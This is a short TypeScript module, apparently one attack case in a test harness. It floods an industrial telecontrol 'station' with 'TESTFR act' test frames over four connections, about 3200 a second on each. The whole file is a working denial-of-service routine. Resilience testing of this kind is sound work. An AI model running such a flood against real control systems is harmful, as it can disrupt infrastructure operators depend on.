// A flood of TESTFR act.

import { concat, frame } from "../../../helpers/wire/frames.ts";
import type { ClientAttack } from "../attackers/attack.ts";

const BATCH = 64;

const OCTETS = concat(Array.from({ length: BATCH }, () => frame("TESTFR act")));

/** Reads the answers. */
export const testfrFlood: ClientAttack = {
  name: "flood of TESTFR",
  text: "four connections with 3200 TESTFR act a second each",
  target: "station",
  run: (field) =>
    field.keep(field.many(4), async (wire) => {
      while (wire.isOpen && !field.signal.aborted) {
        wire.octets(OCTETS, BATCH);
        await field.wait(20);
      }
    }),
};
